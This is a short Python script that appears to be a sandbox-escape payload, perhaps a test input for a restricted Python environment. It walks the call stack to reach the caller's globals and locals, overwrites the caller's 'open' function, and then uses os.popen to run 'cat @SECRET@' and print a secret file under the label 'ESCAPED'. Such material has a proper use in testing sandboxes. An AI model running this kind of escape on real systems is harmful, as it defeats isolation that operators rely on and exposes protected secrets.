import sys
frame = sys._getframe()
while frame:
    print({k: v for k, v in frame.f_globals.items() if k in ("os", "job", "door")}, frame.f_locals.get("job"))
    frame = frame.f_back
sys._getframe().f_back.f_globals["open"] = 1
print("ESCAPED", sys.modules["os"].popen("cat @SECRET@").read())
